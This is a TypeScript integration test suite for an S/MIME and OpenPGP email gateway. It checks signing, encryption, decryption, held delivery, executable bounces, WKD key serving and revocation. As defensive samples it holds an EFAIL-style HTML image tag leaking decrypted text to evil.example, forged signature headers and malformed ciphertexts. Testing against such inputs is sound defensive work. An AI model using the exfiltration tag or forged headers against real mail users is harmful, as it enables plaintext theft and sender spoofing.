/**
 * S/MIME end to end through the running gateway, with openssl as the independent peer on both
 * sides: an internal sender's mail to a partner with a certificate arrives signed and encrypted
 * (openssl decrypts and verifies it), to a partner without one signed only; a partner's signed and
 * encrypted mail arrives decrypted with the result headers (forged ones removed) and the signer's
 * certificate learnt; a recipient whose encryption is required is held until a certificate is
 * imported and `postern queue release` runs, then delivered encrypted (issue 5's per-recipient split).
 */
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tempDir } from '../helpers/config.js';
import { freePort, runPostern, startGateway, writeGatewayConfig, type Gateway } from '../helpers/gateway.js';
import { opensslCa, opensslMailbox, run, type Issued } from '../helpers/pki-openssl.js';
import { parseMail, type ParsedPart } from '../helpers/mail-parse.js';
import { maildirOf } from '../helpers/maildir.js';
import { gpgsmHome } from '../helpers/smime-env-gpgsm.js';
import { mimeBodyDer, type EnvIdentity } from '../helpers/smime-env-pki.js';
import { sendRaw, waitUntil } from '../helpers/send.js';

const leaves = (p: ParsedPart): ParsedPart[] => (p.parts.length ? p.parts.flatMap(leaves) : [p]);

describe('S/MIME through the gateway', () => {
  let dir: string;
  let cleanup: () => Promise<void>;
  let gw: Gateway;
  let port: number;
  let portalPort: number;
  let config: string;
  let ourCa: Issued, partnerCa: Issued, alice: Issued, bob: Issued, dave: Issued, erin: Issued, ack: Issued;
  const { delivered, waitDelivered } = maildirOf(() => dir);
  const ok = async (args: string[]) => {
    const r = await runPostern(config, args);
    expect(r.code, r.stderr).toBe(0);
    return r.stdout;
  };

  beforeAll(async () => {
    ({ dir, cleanup } = await tempDir('postern-smime-gw-'));
    [ourCa, partnerCa] = await Promise.all([opensslCa(dir, 'Example Corp'), opensslCa(dir, 'Partner')]);
    [alice, bob, dave, erin, ack] = await Promise.all([
      opensslMailbox(dir, ourCa, 'alice@example.com'),
      opensslMailbox(dir, partnerCa, 'bob@partner.example'),
      opensslMailbox(dir, partnerCa, 'dave@partner.example'),
      opensslMailbox(dir, partnerCa, 'erin@partner.example', 'ec'),
      opensslMailbox(dir, ourCa, 'ack@example.com'),
    ]);
    port = await freePort();
    portalPort = await freePort();
    config = await writeGatewayConfig(dir, port, `portal: { listen: ["127.0.0.1:${portalPort}"], index_ttl: 1s }\nca: { crl_url: "http://127.0.0.1:${portalPort}/crl/internal.crl" }\n`);
    await writeFile(
      join(dir, 'policy.yaml'),
      `rules:
  - name: erin only encrypted
    when: { recipient: erin@partner.example }
    do: [sign, { encrypt: { methods: [smime], require: true, otherwise: hold } }]
  - name: no programs leave the company
    when: { attachments: { name: "*.exe" } }
    do: [{ bounce: "executables may not leave the company" }, { alert: security@example.com }]
  - name: acknowledge
    when: { sender: ack@example.com }
    do: [notify_sender]
    continue: true
`,
    );
    await ok(['cert', 'import', ourCa.cert, '--trust']);
    await ok(['cert', 'import', partnerCa.cert, '--trust']);
    await ok(['cert', 'import', alice.cert, '--key', alice.key]);
    await ok(['cert', 'import', bob.cert]);
    await ok(['cert', 'import', ack.cert, '--key', ack.key]);
    await ok(['pgp', 'generate', 'alice@example.com', '--name', 'Alice']);
    gw = await startGateway(config);
  }, 60_000);
  afterAll(async () => {
    await gw?.stop();
    await cleanup();
  });

  it('signs and encrypts outbound mail per recipient: encrypted to the one with a certificate, signed only to the other', async () => {
    const raw = Buffer.from(
      'From: Alice <alice@example.com>\r\nTo: bob@partner.example, carol@partner.example\r\nSubject: quarterly figures\r\nMessage-ID: <o1@example.com>\r\n' +
        `Date: ${new Date().toUTCString()}\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\nGrüße, token o1\r\n`,
      'utf8',
    );
    expect(await sendRaw(port, 'alice@example.com', ['bob@partner.example', 'carol@partner.example'], raw)).toMatch(/^250 /);
    const toBob = await waitDelivered('bob@partner.example', 'quarterly figures');
    const bobText = await readFile(toBob, 'latin1');
    expect(bobText).toMatch(/^Content-Type: application\/pkcs7-mime; smime-type=enveloped-data/m);
    expect(bobText).toMatch(/^Subject: quarterly figures\r$/m);
    expect(bobText).not.toContain('token o1');
    const dec = join(dir, 'o1-bob.eml');
    await run('openssl', ['cms', '-decrypt', '-in', toBob, '-recip', bob.cert, '-inkey', bob.key, '-out', dec]);
    expect(await readFile(dec, 'latin1')).toMatch(/^Content-Type: multipart\/signed; protocol="application\/pkcs7-signature"; micalg=sha-256/m);
    const content = join(dir, 'o1-content.txt');
    await run('openssl', ['cms', '-verify', '-in', dec, '-CAfile', ourCa.cert, '-out', content]);
    // The 8-bit body was made 7-bit before signing (RFC 8551 3.1.1), and survives byte for byte.
    expect(await readFile(content, 'latin1')).toContain('Gr=C3=BC=C3=9Fe, token o1');
    // gpgsm (GnuPG's S/MIME) reads the same message Bob's client would get.
    const sm = gpgsmHome();
    try {
      sm.import({ name: 'bob', certPath: bob.cert, keyPath: bob.key } as EnvIdentity, partnerCa.cert);
      sm.trust(partnerCa.cert);
      expect(sm.decrypt(mimeBodyDer(await readFile(toBob))).toString('latin1')).toContain('Gr=C3=BC=C3=9Fe, token o1');
    } finally {
      sm.close();
    }

    const toCarol = await waitDelivered('carol@partner.example', 'quarterly figures');
    expect(await readFile(toCarol, 'latin1')).toMatch(/^Content-Type: multipart\/signed/m);
    await run('openssl', ['cms', '-verify', '-in', toCarol, '-CAfile', ourCa.cert, '-out', join(dir, 'o1-carol.txt')]);
    expect(await readFile(join(dir, 'o1-carol.txt'), 'latin1')).toContain('token o1');
  });

  it('decrypts and verifies inbound mail, states it in X-Postern-* headers (forged ones removed) and learns the signer', async () => {
    const inner = join(dir, 'i1-inner.txt');
    await writeFile(inner, 'Content-Type: text/plain; charset=us-ascii\r\n\r\nhello from dave, token i1\r\n');
    await run('openssl', ['cms', '-sign', '-in', inner, '-signer', dave.cert, '-inkey', dave.key, '-out', join(dir, 'i1-signed.eml')]);
    await run('openssl', ['cms', '-encrypt', '-in', join(dir, 'i1-signed.eml'), '-aes256', '-out', join(dir, 'i1-enc.eml'), alice.cert]);
    const enc = (await readFile(join(dir, 'i1-enc.eml'), 'latin1')).replace(/\r?\n/g, '\r\n');
    const raw = Buffer.from(
      'From: dave@partner.example\r\nTo: alice@example.com\r\nSubject: signed and sealed\r\nMessage-ID: <i1@partner.example>\r\n' +
        `Date: ${new Date().toUTCString()}\r\nX-Postern-Signature: valid; method=smime; signer=ceo@example.com\r\n${enc}`,
      'latin1',
    );
    expect(await sendRaw(port, 'dave@partner.example', ['alice@example.com'], raw)).toMatch(/^250 /);
    const file = await waitDelivered('alice@example.com', 'signed and sealed');
    const text = await readFile(file, 'latin1');
    expect(text).toContain('hello from dave, token i1');
    expect(text).not.toMatch(/pkcs7-mime/);
    expect(text).toMatch(/^X-Postern-Encryption: decrypted; method=smime; cipher=AES-256-CBC; key-transport="RSA PKCS#1 v1\.5"; integrity=signed\r$/m);
    expect(text).toMatch(/^X-Postern-Signature: valid; method=smime; signer=dave@partner\.example\r$/m);
    expect(text).not.toContain('ceo@example.com');
    // The signature stays, so Alice's client can check it too.
    expect(text).toMatch(/^Content-Type: multipart\/signed/m);
    await waitUntil(async () => (await runPostern(config, ['cert', 'list', '--address', 'dave@partner.example'])).stdout.includes('dave@partner.example'), 10_000, 'dave learnt');
    expect((await runPostern(config, ['cert', 'list', '--address', 'dave@partner.example'])).stdout).toMatch(/\bmail\b/);
  });

  it('holds a recipient whose encryption is required until a certificate is imported and the message released', async () => {
    const raw = Buffer.from(
      'From: alice@example.com\r\nTo: erin@partner.example\r\nSubject: for erin only\r\nMessage-ID: <h1@example.com>\r\n' + `Date: ${new Date().toUTCString()}\r\n\r\nsecret for erin, token h1\r\n`,
    );
    expect(await sendRaw(port, 'alice@example.com', ['erin@partner.example'], raw)).toMatch(/^250 /);
    await gw.waitFor((l) => l.event === 'worker.held' && String(l.reason).includes('erin@partner.example'));
    const list = (await runPostern(config, ['queue', 'list'])).stdout;
    const id = /^(\S+)\thold\t.*erin@partner\.example$/m.exec(list)?.[1];
    expect(id, list).toBeDefined();
    expect(await delivered('erin@partner.example', 'for erin only')).toBeUndefined();
    // The admin sees why and which held outcome (README: Outcomes) it is.
    const shown = JSON.parse((await runPostern(config, ['queue', 'show', id!, '--json'])).stdout) as { entries: { queue: string; hold_reason?: string; held_as?: string }[] };
    expect(shown.entries).toEqual([expect.objectContaining({ queue: 'hold', held_as: 'held_encryption', hold_reason: expect.stringContaining('erin@partner.example') })]);

    await ok(['cert', 'import', erin.cert]);
    expect(await ok(['queue', 'release', id!])).toContain('released');
    const file = await waitDelivered('erin@partner.example', 'for erin only');
    const dec = join(dir, 'h1-erin.eml');
    await run('openssl', ['cms', '-decrypt', '-in', file, '-recip', erin.cert, '-inkey', erin.key, '-out', dec]);
    await run('openssl', ['cms', '-verify', '-in', dec, '-CAfile', ourCa.cert, '-out', join(dir, 'h1.txt')]);
    expect(await readFile(join(dir, 'h1.txt'), 'latin1')).toContain('secret for erin, token h1');
  });

  it('notify_sender: the sender gets a delivery report saying who got the message encrypted and who in clear', async () => {
    const raw = Buffer.from(`From: ack@example.com\r\nTo: bob@partner.example, carol@partner.example\r\nSubject: please confirm\r\nMessage-ID: <n1@example.com>\r\nDate: ${new Date().toUTCString()}\r\n\r\ntoken n1\r\n`);
    expect(await sendRaw(port, 'ack@example.com', ['bob@partner.example', 'carol@partner.example'], raw)).toMatch(/^250 /);
    const file = await waitDelivered('ack@example.com', 'please confirm');
    const report = await readFile(file);
    const parsed = await parseMail(report);
    const text = leaves(parsed).map((l) => l.payload?.toString('utf8') ?? '').join('\n');
    expect(parsed.headers.find(([k]) => k.toLowerCase() === 'auto-submitted')?.[1]).toBe('auto-replied');
    expect(text).toMatch(/bob@partner\.example[^\n]*S\/MIME|S\/MIME[^\n]*bob@partner\.example/);
    expect(text).toMatch(/unencrypted[^\n]*carol@partner\.example|carol@partner\.example[^\n]*unencrypted/);
    // From <>: a report can never bounce or loop.
    expect(report.toString('latin1')).toMatch(/^Return-Path: <>\r$/m);
  });

  it('bounce and alert: a program attachment is refused with a DSN to the sender and an alert without the body to the admin', async () => {
    const raw = Buffer.from(
      `From: alice@example.com\r\nTo: bob@partner.example\r\nSubject: the tool\r\nMessage-ID: <b1@example.com>\r\nDate: ${new Date().toUTCString()}\r\nMIME-Version: 1.0\r\n` +
        'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsecret body b1\r\n--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="tool.exe"\r\nContent-Transfer-Encoding: base64\r\n\r\nTVqQAAMAAAAEAAAA\r\n--b--\r\n',
    );
    expect(await sendRaw(port, 'alice@example.com', ['bob@partner.example'], raw)).toMatch(/^250 /);
    const alert = await readFile(await waitDelivered('security@example.com', 'the tool'), 'latin1');
    expect(alert).toContain('no programs leave the company');
    expect(alert).toContain('bob@partner.example');
    expect(alert).not.toContain('secret body b1');
    const bounce = await readFile(await waitDelivered('alice@example.com', 'executables may not leave the company'), 'latin1');
    expect(bounce).toMatch(/Status: 5\.7\.1/);
    expect(await delivered('bob@partner.example', 'the tool')).toBeUndefined();
  });

  it('{send_keys}: the message goes out signed with the sender\'s certificates and OpenPGP key attached, which gpgsm and gpg import', async () => {
    const raw = Buffer.from(`From: alice@example.com\r\nTo: carol@partner.example\r\nSubject: my keys {send_keys}\r\nMessage-ID: <k1@example.com>\r\nDate: ${new Date().toUTCString()}\r\n\r\nhere are my keys, token k1\r\n`);
    expect(await sendRaw(port, 'alice@example.com', ['carol@partner.example'], raw)).toMatch(/^250 /);
    const file = await waitDelivered('carol@partner.example', 'token k1');
    const text = await readFile(file, 'latin1');
    expect(text).toMatch(/^Subject: my keys\r$/m);
    await run('openssl', ['cms', '-verify', '-in', file, '-CAfile', ourCa.cert, '-out', join(dir, 'k1.txt')]);
    const parsed = await parseMail(await readFile(file));
    const p7c = leaves(parsed).find((l) => l.filename?.endsWith('.p7c'));
    expect(p7c?.contentType).toBe('application/pkcs7-mime');
    await writeFile(join(dir, 'k1.p7c'), p7c!.payload!);
    const home = join(dir, 'gnupg-k1');
    await run('mkdir', ['-m', '700', home]);
    await run('gpgsm', ['--homedir', home, '--batch', '--import', join(dir, 'k1.p7c')]);
    const { stdout } = await run('gpgsm', ['--homedir', home, '--batch', '--list-keys']);
    expect(stdout).toContain('alice@example.com');
    expect(stdout).toContain('Example Corp Root');
    const asc = leaves(parsed).find((l) => l.filename?.endsWith('.asc'));
    expect(asc?.contentType).toBe('application/pgp-keys');
    await writeFile(join(dir, 'k1.asc'), asc!.payload!);
    const gpgHome = join(dir, 'gnupg-k1-pgp');
    await run('mkdir', ['-m', '700', gpgHome]);
    await run('gpg', ['--homedir', gpgHome, '--batch', '--import', join(dir, 'k1.asc')]);
    const keys = await run('gpg', ['--homedir', gpgHome, '--batch', '--with-colons', '--list-keys']);
    expect(keys.stdout).toMatch(/^uid:.*alice@example\.com/m);
    await run('gpgconf', ['--homedir', gpgHome, '--kill', 'all']).catch(() => undefined);
    await run('gpgconf', ['--homedir', home, '--kill', 'all']).catch(() => undefined);
  });

  it('hostile S/MIME (garbage, truncated, a bit flipped in AES-GCM) is delivered as it came with a clear failure header, nothing lost', async () => {
    await run('openssl', ['cms', '-encrypt', '-in', join(dir, 'i1-inner.txt'), '-aes-256-gcm', '-outform', 'DER', '-out', join(dir, 'x-gcm.der'), alice.cert]);
    const gcm = await readFile(join(dir, 'x-gcm.der'));
    const flipped = Buffer.from(gcm);
    flipped[flipped.length - 40]! ^= 0x01;
    const bodies: [string, Buffer][] = [
      ['garbage', Buffer.from('this is not CMS at all, not even base64 !!!')],
      ['truncated', gcm.subarray(0, Math.floor(gcm.length / 2))],
      ['flipped', flipped],
    ];
    for (const [name, der] of bodies) {
      const raw = Buffer.from(
        `From: mallory@partner.example\r\nTo: alice@example.com\r\nSubject: hostile ${name}\r\nDate: ${new Date().toUTCString()}\r\nMIME-Version: 1.0\r\n` +
          `Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n${der.toString('base64').replace(/.{76}/g, '$&\r\n')}\r\n`,
      );
      expect(await sendRaw(port, 'mallory@partner.example', ['alice@example.com'], raw)).toMatch(/^250 /);
    }
    for (const [name] of bodies) {
      const text = await readFile(await waitDelivered('alice@example.com', `hostile ${name}`), 'latin1');
      expect(text, name).toMatch(/^X-Postern-Encryption: failed; method=smime; reason="[^"]+"\r$/m);
      expect(text, name).toMatch(/^Content-Type: application\/pkcs7-mime/m);
    }
    const flippedText = await readFile((await delivered('alice@example.com', 'hostile flipped'))!, 'latin1');
    expect(flippedText).toMatch(/X-Postern-Encryption: failed; .*reason="[^"]*(tag|altered)/);
    expect(gw.logs.some((l) => l.event === 'worker.error')).toBe(false);
  });

  it('unsigned CBC-encrypted HTML arrives decrypted with its remote loads neutralised (EFAIL)', async () => {
    const html = join(dir, 'x-html.txt');
    await writeFile(html, 'Content-Type: text/html; charset=us-ascii\r\n\r\n<p>hello</p><img src="http://evil.example/leak?x=">token e1\r\n');
    await run('openssl', ['cms', '-encrypt', '-in', html, '-aes256', '-out', join(dir, 'x-html.eml'), alice.cert]);
    const enc = (await readFile(join(dir, 'x-html.eml'), 'latin1')).replace(/\r?\n/g, '\r\n');
    const raw = Buffer.from(`From: carol@partner.example\r\nTo: alice@example.com\r\nSubject: html e1\r\nDate: ${new Date().toUTCString()}\r\n${enc}`, 'latin1');
    expect(await sendRaw(port, 'carol@partner.example', ['alice@example.com'], raw)).toMatch(/^250 /);
    const file = await waitDelivered('alice@example.com', 'html e1');
    const text = await readFile(file, 'latin1');
    expect(text).toMatch(/^X-Postern-Encryption: decrypted; .*integrity=unauthenticated; remote-content-removed=1\r$/m);
    const body = leaves(await parseMail(await readFile(file)))[0]!.payload!.toString('latin1');
    expect(body).toContain('token e1');
    expect(body).not.toMatch(/ src="http/);
  });

  it('uses AES-256-GCM (AuthEnvelopedData) for a partner whose signed mail advertised it', async () => {
    // Bob's client (here Postern's own signer, which advertises GCM) sends a signed message first.
    const { prepareSigner, signMessage } = await import('../../src/smime/index.js');
    const { createPrivateKey } = await import('node:crypto');
    const pem = await readFile(bob.cert, 'utf8');
    const der = Buffer.from(pem.replace(/-----[^-]+-----/g, '').replace(/\s+/g, ''), 'base64');
    const pkcs8 = createPrivateKey(await readFile(bob.key, 'utf8')).export({ format: 'der', type: 'pkcs8' });
    const signed = await signMessage(
      Buffer.from(`From: bob@partner.example\r\nTo: alice@example.com\r\nSubject: capabilities c1\r\nDate: ${new Date().toUTCString()}\r\n\r\nhi alice\r\n`),
      prepareSigner(der, pkcs8, []),
    );
    expect(await sendRaw(port, 'bob@partner.example', ['alice@example.com'], signed)).toMatch(/^250 /);
    expect(await readFile(await waitDelivered('alice@example.com', 'capabilities c1'), 'latin1')).toMatch(/^X-Postern-Signature: valid; method=smime; signer=bob@partner\.example\r$/m);
    const raw = Buffer.from(`From: alice@example.com\r\nTo: bob@partner.example\r\nSubject: reply c2\r\nDate: ${new Date().toUTCString()}\r\n\r\nsealed with GCM, token c2\r\n`);
    expect(await sendRaw(port, 'alice@example.com', ['bob@partner.example'], raw)).toMatch(/^250 /);
    const file = await waitDelivered('bob@partner.example', 'reply c2');
    expect(await readFile(file, 'latin1')).toMatch(/^Content-Type: application\/pkcs7-mime; smime-type=authEnveloped-data/m);
    const dec = join(dir, 'c2.eml');
    await run('openssl', ['cms', '-decrypt', '-in', file, '-recip', bob.cert, '-inkey', bob.key, '-out', dec]);
    await run('openssl', ['cms', '-verify', '-in', dec, '-CAfile', ourCa.cert, '-out', join(dir, 'c2.txt')]);
    expect(await readFile(join(dir, 'c2.txt'), 'latin1')).toContain('token c2');
  });

  it('the portal role serves our users\' OpenPGP keys over WKD (read by gpg), and nothing for unknown users', async () => {
    const { wkdUrls } = await import('../../src/directory/index.js');
    const urls = wkdUrls('alice@example.com')!;
    const path = new URL(urls.direct).pathname + new URL(urls.direct).search;
    const res = await fetch(`http://127.0.0.1:${portalPort}${path}`);
    expect(res.status).toBe(200);
    await writeFile(join(dir, 'wkd.key'), Buffer.from(await res.arrayBuffer()));
    const home = join(dir, 'gnupg-wkd');
    await run('mkdir', ['-m', '700', home]);
    await run('gpg', ['--homedir', home, '--batch', '--import', join(dir, 'wkd.key')]);
    expect((await run('gpg', ['--homedir', home, '--batch', '--with-colons', '--list-keys'])).stdout).toMatch(/^uid:.*alice@example\.com/m);
    expect((await run('gpg', ['--homedir', home, '--batch', '--with-colons', '--list-secret-keys']).catch((e: { stdout: string }) => e)).stdout ?? '').not.toMatch(/^sec:/m);
    await run('gpgconf', ['--homedir', home, '--kill', 'all']).catch(() => undefined);
    const unknown = wkdUrls('nobody@example.com')!;
    expect((await fetch(`http://127.0.0.1:${portalPort}${new URL(unknown.direct).pathname}`)).status).toBe(404);
  });

  it('a signature by a certificate the internal CA revoked is reported invalid, with the revocation stated', async () => {
    expect((await runPostern(config, ['ca', 'init', '--name', 'Gateway CA'])).code).toBe(0);
    expect((await runPostern(config, ['ca', 'issue', 'rita@partner.example'])).code).toBe(0);
    const fp = /^([0-9a-f]{16})\t/m.exec((await runPostern(config, ['cert', 'list', '--address', 'rita@partner.example'])).stdout)![1]!;
    const p12 = join(dir, 'rita.p12');
    expect((await runPostern(config, ['cert', 'export', fp, '--with-key', '--password-env', 'RITA_PW', '--out', p12], { ...process.env, RITA_PW: 'pw' })).code).toBe(0);
    await run('openssl', ['pkcs12', '-in', p12, '-passin', 'pass:pw', '-nodes', '-out', join(dir, 'rita.pem')]);
    const signed = async (token: string) => {
      await writeFile(join(dir, `${token}.txt`), `Content-Type: text/plain\r\n\r\nfrom rita, token ${token}\r\n`);
      await run('openssl', ['cms', '-sign', '-in', join(dir, `${token}.txt`), '-signer', join(dir, 'rita.pem'), '-out', join(dir, `${token}.eml`)]);
      const body = (await readFile(join(dir, `${token}.eml`), 'latin1')).replace(/\r?\n/g, '\r\n');
      const raw = Buffer.from(`From: rita@partner.example\r\nTo: alice@example.com\r\nSubject: rita ${token}\r\nDate: ${new Date().toUTCString()}\r\n${body}`, 'latin1');
      expect(await sendRaw(port, 'rita@partner.example', ['alice@example.com'], raw)).toMatch(/^250 /);
      return readFile(await waitDelivered('alice@example.com', `rita ${token}`), 'latin1');
    };
    const before = await signed('r1');
    expect(before).toMatch(/^X-Postern-Signature: valid; method=smime; signer=rita@partner\.example\r$/m);
    expect(before).toMatch(/^X-Postern-Revocation: good \(local\)\r$/m);
    expect((await runPostern(config, ['ca', 'revoke', 'rita@partner.example', '--reason', 'keyCompromise'])).code).toBe(0);
    const after = await signed('r2');
    expect(after).toMatch(/^X-Postern-Signature: invalid; method=smime; signer=rita@partner\.example; reason="[^"]*revoked[^"]*"\r$/m);
    expect(after).toMatch(/^X-Postern-Revocation: revoked: .*keyCompromise/m);
    expect((await runPostern(config, ['cert', 'list', '--address', 'rita@partner.example', '--revocation'])).stdout).toMatch(/\trevoked \(keyCompromise\) \d{4}-\d\d-\d\d\t/);
    expect((await runPostern(config, ['cert', 'list', '--address', 'bob@partner.example', '--revocation'])).stdout).toMatch(/\tunknown \((none|crl|ocsp)\)\t/);
    // The portal publishes the internal CA's CRL where its certificates say it is; openssl checks it.
    const res = await fetch(`http://127.0.0.1:${portalPort}/crl/internal.crl`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/pkix-crl');
    await writeFile(join(dir, 'internal.crl'), Buffer.from(await res.arrayBuffer()));
    expect((await runPostern(config, ['ca', 'show', '--out', join(dir, 'internal-ca.pem')])).code).toBe(0);
    const crl = await run('openssl', ['crl', '-inform', 'DER', '-in', join(dir, 'internal.crl'), '-CAfile', join(dir, 'internal-ca.pem'), '-noout', '-text']);
    expect(crl.stderr + crl.stdout).toMatch(/verify OK/);
    expect(crl.stdout).toMatch(/Key Compromise/);
    const ritaCert = await run('openssl', ['x509', '-in', join(dir, 'rita.pem'), '-noout', '-ext', 'crlDistributionPoints']);
    expect(ritaCert.stdout).toContain(`http://127.0.0.1:${portalPort}/crl/internal.crl`);
  });
});
